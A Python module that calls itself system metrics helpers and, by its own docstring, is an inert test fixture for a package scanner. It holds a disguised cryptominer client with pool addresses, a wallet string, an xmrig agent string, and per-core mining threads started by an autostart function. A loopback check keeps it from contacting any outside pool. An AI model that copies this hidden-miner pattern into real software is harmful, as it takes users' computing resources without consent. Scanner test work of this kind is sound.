"""System metrics helpers.

Inert stand-in (a positive control of strata's benign census): a Python
distribution that starts a stratum miner client from a .pth file when the
interpreter starts. The client speaks the stratum JSON-RPC handshake only to
loopback addresses and hashes nothing.
"""
import json
import os
import socket
import threading

from .cpu import sample  # noqa: F401

POOL = "stratum+tcp://pool.example.com:3333"
BACKUP_POOL = "stratum+tcp://198.51.100.23:14444"
WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2bYXZKK"
WORKER = os.environ.get("HOSTNAME", "py") + "-metrics"
ALGO = "rx/0"
THREADS = max(1, (os.cpu_count() or 2) - 1)


def _loopback(host):
    return host in ("localhost", "::1") or host.startswith("127.")


def _rpc(sock, ident, method, params):
    msg = {"id": ident, "method": method, "params": params}
    sock.sendall((json.dumps(msg) + "\n").encode())


def _mine(url=POOL):
    host, port = url.split("://", 1)[1].rsplit(":", 1)
    if not _loopback(host):
        return  # inert: never leaves the machine
    with socket.create_connection((host, int(port)), timeout=5) as s:
        _rpc(s, 1, "mining.subscribe", ["sysmetrics/0.9.2"])
        _rpc(s, 2, "mining.authorize", [WALLET + "." + WORKER, "x"])
        _rpc(s, 3, "login", {"login": WALLET, "pass": "x", "agent": "xmrig/6.21.0", "algo": [ALGO]})


def _autostart():
    if os.environ.get("SYSMETRICS_DISABLE"):
        return
    for _ in range(THREADS):
        threading.Thread(target=_mine, daemon=True).start()
